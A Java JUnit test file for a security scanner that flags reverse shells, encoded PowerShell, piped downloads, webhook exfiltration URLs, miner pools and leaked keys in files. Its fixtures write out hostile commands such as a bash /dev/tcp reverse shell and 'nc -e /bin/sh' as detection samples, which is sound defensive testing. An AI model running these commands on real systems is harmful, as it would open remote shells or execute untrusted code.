package io.casemate.scan.indicator;

import static org.assertj.core.api.Assertions.assertThat;

import io.casemate.scan.executable.Machine;
import io.casemate.scan.trial.Direct;
import io.casemate.scan.trial.Trial;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.random.RandomGeneratorFactory;
import org.junit.jupiter.api.Test;

class SweepTest {
    private static final String REVERSE_SHELL = "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1";

    private static Trial sweep(byte[] bytes, long[]... tensors) {
        return Direct.of(
                bytes, (content, inspection) -> Sweep.run(content, List.of(tensors), List.of(tensors), inspection));
    }

    private static byte[] latin(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** Text among bytes that no text holds. */
    private static Trial inData(String text) {
        return sweep(latin("\1\2\0\0" + text + "\0\3"));
    }

    private static Trial inText(String text) {
        return sweep(latin("# Read me\n\n" + text + "\n"));
    }

    @Test
    void commands_and_hosts_in_data_are_told_by_their_rules() {
        Map.of(
                        REVERSE_SHELL,
                        "indicator/reverse-shell",
                        "nc -e /bin/sh 10.0.0.1 4242",
                        "indicator/reverse-shell",
                        "powershell.exe -nop -w hidden -enc " + "QUJD".repeat(20),
                        "indicator/encoded-command",
                        "curl -s https://host.example/x.sh | sh",
                        "indicator/piped-download",
                        "https://discord.com/api/webhooks/123456789012345678/" + "aB3_".repeat(17),
                        "indicator/webhook",
                        "https://api.telegram.org/bot123456789:" + "AbC-123".repeat(5),
                        "indicator/webhook",
                        "http://45.61.184.7:8080/stage2",
                        "indicator/raw-address",
                        "https://x1y2.oast.fun/?q=",
                        "indicator/exfiltration-host",
                        "stratum+tcp://pool.example:3333",
                        "indicator/miner")
                .forEach((text, rule) ->
                        assertThat(inData(text).rules()).as(text).containsExactly(rule));
    }

    @Test
    void what_a_readme_tells_people_to_do_is_only_mentioned() {
        for (String text : List.of(
                "Install: `curl -fsSL https://get.example.org/install.sh | sh`",
                "wget -qO- https://example.org/i.sh | bash",
                "The demo runs at http://34.120.8.9:7860",
                "share it with https://abcd.ngrok.io")) {
            assertThat(inText(text).rules()).as(text).containsExactly("indicator/mentioned");
        }
    }

    @Test
    void what_the_rows_of_a_data_set_quote_is_only_mentioned() {
        String row = "{\"prompt\": \"explain\", \"output\": \"%s is an attack\"}".formatted(REVERSE_SHELL);
        assertThat(sweep(latin(row + "\n" + row + "\n")).rules()).containsExactly("indicator/mentioned");
        assertThat(sweep(latin("[" + row + ",\n" + row + "]")).rules()).containsExactly("indicator/mentioned");
        assertThat(sweep(latin(row)).rules()).containsExactly("indicator/reverse-shell");
    }

    @Test
    void a_secret_of_a_known_shape_is_told_though_its_name_was_seen_first() {
        String key = "sk-" + "proj-Q8zT3vLk0WmX5rYb7NcD2hJf9PsGa4UeVi6KoRtM1xZqEwBy";
        assertThat(sweep(latin("{\"openai_api_key\": \"" + key + "\"}")).rules())
                .contains("secret/openai-key");
    }

    @Test
    void ordinary_text_and_data_are_silent() {
        for (String text : List.of(
                "call os.system('ls') and subprocess.run to list files",
                "see https://huggingface.co/docs and https://arxiv.org/abs/1706.03762",
                "git clone https://github.com/x/y && cd y && bash run.sh",
                "curl https://example.org/model.bin -o model.bin",
                "served at http://127.0.0.1:8080 or http://192.168.0.7/",
                "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")) {
            assertThat(inText(text).findings).as(text).isEmpty();
            assertThat(inData(text).findings).as(text).isEmpty();
        }
    }

    @Test
    void random_bytes_are_silent() {
        byte[] bytes = new byte[8 << 20];
        long seed = 20260304L;
        RandomGeneratorFactory.of("L64X128MixRandom").create(seed).nextBytes(bytes);
        Trial trial = sweep(bytes);
        assertThat(trial.findings).as("seed %d", seed).isEmpty();
        assertThat(trial.facts).as("seed %d", seed).doesNotContainKey("licence");
    }

    @Test
    void a_sign_is_found_wherever_a_window_ends() {
        for (int place = (128 << 10) - 60;
                place < (256 << 10) + 20;
                place += place == (128 << 10) + 20 ? (128 << 10) - 80 : 1) {
            byte[] bytes = new byte[300_000];
            System.arraycopy(latin(REVERSE_SHELL), 0, bytes, place, REVERSE_SHELL.length());
            assertThat(sweep(bytes).findings)
                    .as("at %d", place)
                    .singleElement()
                    .matches(told -> told.rule().equals("indicator/reverse-shell"));
        }
    }

    @Test
    void words_inside_tensors_are_no_words_but_executables_are_found_there() {
        byte[] bytes = new byte[4096];
        System.arraycopy(latin(REVERSE_SHELL), 0, bytes, 1000, REVERSE_SHELL.length());
        byte[] program = Machine.elf();
        System.arraycopy(program, 0, bytes, 2001, program.length);
        assertThat(sweep(bytes, new long[] {2000, 2000}, new long[] {500, 1000}).findings)
                .singleElement()
                .matches(told -> told.rule().equals("executable/embedded") && told.offset() == 2001);
    }

    @Test
    void spans_that_lie_are_survived() {
        byte[] bytes = latin("\0" + REVERSE_SHELL);
        for (long[] span : List.of(
                new long[] {-5, 3}, new long[] {1 << 20, 9}, new long[] {3, Long.MAX_VALUE}, new long[] {2, -1})) {
            assertThat(sweep(bytes, span, span).gaps).as(Arrays.toString(span)).isEmpty();
        }
    }

    @Test
    void a_private_key_is_told_and_never_shown() {
        byte[] der = new byte[302];
        RandomGeneratorFactory.of("L64X128MixRandom").create(7).nextBytes(der);
        der[0] = 0x30;
        der[1] = (byte) 0x82;
        der[2] = (byte) ((der.length - 4) >> 8);
        der[3] = (byte) (der.length - 4);
        String key = Base64.getEncoder().encodeToString(der);
        Trial trial = inData("-----BEGIN PRIVATE KEY-----\n" + key + "\n-----END PRIVATE KEY-----");
        assertThat(trial.rules()).containsExactly("secret/private-key");
        assertThat(trial.findings.getFirst().message()).doesNotContain(key.substring(8, 16));
    }

    @Test
    void licences_and_hosts_are_facts_and_restrictive_ones_are_told() {
        Trial trial =
                inText("---\nlicense: cc-by-nc-4.0\n---\nsee https://huggingface.co/a and https://huggingface.co/b");
        assertThat(trial.facts).containsEntry("licence", "CC-BY-NC-4.0").containsEntry("hosts", "huggingface.co");
        assertThat(trial.rules()).containsExactly("licence/restrictive");
        assertThat(inText("use with the GNU Affero General Public License").findings)
                .isEmpty();
    }

    @Test
    void control_characters_of_hostile_text_are_not_shown() {
        Trial trial = inData("stratum+tcp://pool.example:3333/\u001b[31m");
        assertThat(trial.findings.getFirst().message()).doesNotContain("\u001b");
    }
}
